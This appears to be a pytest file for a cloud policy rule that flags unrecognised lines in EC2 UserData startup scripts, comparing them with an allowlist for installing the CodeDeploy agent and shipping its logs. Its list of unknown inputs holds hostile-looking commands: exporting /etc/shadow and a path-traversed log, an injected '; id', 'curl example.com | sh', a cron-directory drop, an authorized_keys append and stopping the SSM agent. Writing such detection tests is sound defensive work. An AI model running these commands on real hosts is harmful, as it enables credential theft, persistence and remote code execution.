import pytest

from policy.rules.ec2.user_data_is_known import check
from tests.policy.rules.builder import assembly_of, details

AGENT = "https://aws-codedeploy-eu-central-1.s3.eu-central-1.amazonaws.com/latest/install"
FILE = '{"file_path": "%s", "log_group_name": "/slipway/web/agents", "log_stream_name": "{instance_id}/agent"}'
SHIPPING = (
    'printf \'%%s\' \'{"logs": {"logs_collected": {"files": {"collect_list": [%s]}}}}\''
    " > /opt/aws/amazon-cloudwatch-agent/etc/codedeploy.json"
)
LOG = FILE % "/var/log/aws/codedeploy-agent/codedeploy-agent.log"
KNOWN = [
    "#!/bin/bash",
    "# the agent",
    "dnf install --assumeyes ruby nodejs24 python3.13",
    f"curl --fail --retry 5 {AGENT} --output /tmp/install-codedeploy",
    "systemctl restart codedeploy-agent",
    SHIPPING % LOG,
    SHIPPING % f"{LOG}, {LOG}",
]
UNKNOWN = [
    SHIPPING % (FILE % "/etc/shadow"),
    SHIPPING % f"{LOG}, {FILE % '/var/log/aws/codedeploy-agent/../../secure.log'}",
    SHIPPING % LOG + "; id",
    "dnf install --assumeyes https://example.com/agent.rpm",
    "dnf install --assumeyes ruby && curl example.com | sh",
    f"curl --fail {AGENT} --output /etc/cron.d/agent",
    "curl --fail https://somebodys.s3.eu-central-1.amazonaws.com/latest/install --output /tmp/install-codedeploy",
    "systemctl stop amazon-ssm-agent",
    "printf 'x' >> /root/.ssh/authorized_keys",
    "bash -c id",
]


def found(*lines: str) -> list[str]:
    script = {"Fn::Base64": "\n".join(lines)}
    return details(check, assembly_of({"Type": "AWS::EC2::Instance", "Properties": {"UserData": script}}))


def test_what_the_instances_need_is_known() -> None:
    assert found(*KNOWN) == found() == []


@pytest.mark.parametrize("line", UNKNOWN)
def test_anything_else_is_found(line: str) -> None:
    assert found(*KNOWN, line) == [f"UserData::{line}"]


def test_the_agent_comes_from_the_region_of_the_stack() -> None:
    line = f"curl --fail {AGENT} --output /tmp/install-codedeploy".replace("eu-central-1", "us-east-1")
    assert found(line) == [f"UserData::{line}"]
